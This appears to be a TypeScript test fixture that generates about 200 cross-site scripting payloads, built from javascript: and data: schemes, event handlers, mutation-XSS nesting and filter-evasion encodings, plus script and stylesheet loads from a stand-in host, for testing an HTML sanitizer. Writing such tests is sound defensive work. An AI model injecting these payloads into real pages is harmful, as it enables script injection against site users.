/** What every attack tries to run, in the forms that its place allows. */
const RUN = 'window.hacked=1';
const AWAY = 'https://evil.example';

/** Schemes that run something, as browsers may still read them. */
const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  ` javascript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `\u0001javascript:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=`,
  '//evil.example/x',
  '/\\evil.example/x',
];

/** Elements and attributes that take an address. */
const ADDRESSED = [
  (address: string) => `<a href="${address}">link</a>`,
  (address: string) => `<img src="${address}" alt="x">`,
  (address: string) => `<iframe src="${address}"></iframe>`,
  (address: string) => `<form action="${address}"><button>go</button></form>`,
  (address: string) => `<svg><a xlink:href="${address}"><text y="20">x</text></a></svg>`,
  (address: string) => `<figure data-video="youtube"><a href="${address}">video</a></figure>`,
];

const HANDLERS = [
  ...[
    'onload',
    'onerror',
    'onclick',
    'onfocus',
    'onmouseover',
    'onanimationstart',
    'ontoggle',
    'onpointerenter',
  ],
  ...['onbegin', 'onscroll', 'onwheel', 'onpaste'],
];
/** Elements that carry a handler which may run by itself. */
const CARRIERS = [
  (handler: string) => `<img src="x" ${handler}="${RUN}" alt="x">`,
  (handler: string) => `<p ${handler}='${RUN}' tabindex=1 autofocus>text</p>`,
  (handler: string) => `<svg ${handler}=${RUN}><circle r=9 ${handler}="${RUN}"/></svg>`,
  (handler: string) =>
    `<table background="x" ${handler}="${RUN}"><tr><td ${handler}="${RUN}">cell</td></tr></table>`,
  (handler: string) => `<details open ${handler}="${RUN}"><summary>x</summary></details>`,
  (handler: string) =>
    `<figure ${handler}="${RUN}"><figcaption ${handler}="${RUN}">words</figcaption></figure>`,
];

const ODD = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC="${AWAY}/x.js"></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\n>${RUN}</script\n>`,
  `<script/x>${RUN}</script>`,
  `<script>${RUN}`,
  `<<script>${RUN}//<</script>`,
  `<style>@import "${AWAY}/x.css";</style>`,
  `<style>*{background:url("javascript:${RUN}")}</style>`,
  `<link rel="stylesheet" href="${AWAY}/x.css">`,
  `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
  `<base href="${AWAY}/">`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<applet code="x"></applet>`,
  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<svg><style><img src=x onerror="${RUN}"></style></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
  `<svg><set attributeName="href" to="javascript:${RUN}"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x'><script>${RUN}</script></svg>#x"/></svg>`,
  `<noscript><p title="</noscript><img src=x onerror='${RUN}'>"></noscript>`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<textarea><img src=x onerror="${RUN}"></textarea><img src=x onerror="${RUN}">`,
  `<title><img src=x onerror="${RUN}"></title>`,
  `<xmp><p title="</xmp><img src=x onerror='${RUN}'>"></xmp>`,
  `<plaintext><img src=x onerror="${RUN}">`,
  `<select><option><style></option></select><img src=x onerror="${RUN}"></style></select>`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<!--[if IE]><script>${RUN}</script><![endif]-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><script>${RUN}</script>`,
  `<p title="&quot;><script>${RUN}</script>">text</p>`,
  `<img src="/aiAPI/uploads/x.webp" alt="&quot; onerror=&quot;${RUN}">`,
  `<img src="/aiAPI/uploads/x.webp&quot; onerror=&quot;${RUN}" alt="x">`,
  `<img src=\`x\` onerror=${RUN}>`,
  `<img srcset="${AWAY}/x.png 1x" alt="x">`,
  `<picture><source srcset="${AWAY}/x.png"><img src="${AWAY}/x.png" alt="x"></picture>`,
  `<video poster="${AWAY}/x.png"><source onerror="${RUN}"></video>`,
  `<audio src="${AWAY}/x.mp3" autoplay onerror="${RUN}"></audio>`,
  `<input autofocus onfocus="${RUN}"><button formaction="javascript:${RUN}">x</button>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<body onload="${RUN}">`,
  `<div style="background:url(${AWAY}/x.png);width:expression(${RUN})">text</div>`,
];

const attacks = [
  ...ODD,
  ...SCHEMES.flatMap((scheme) => ADDRESSED.map((place) => place(scheme))),
  ...HANDLERS.flatMap((handler) => CARRIERS.map((carrier) => carrier(handler))),
];

const COUNT = 200;

/** Harmless words before an attack survive it whatever it breaks. */
export const harmlessText = (index: number) => `Harmless words ${index + 1}`;

/** Attacks of many kinds, each after something harmless. */
export const HOSTILE_HTML: readonly string[] = attacks
  .slice(0, COUNT)
  .map((attack, index) => `<h2>${harmlessText(index)}</h2><p>and <strong>bold</strong></p>${attack}`);
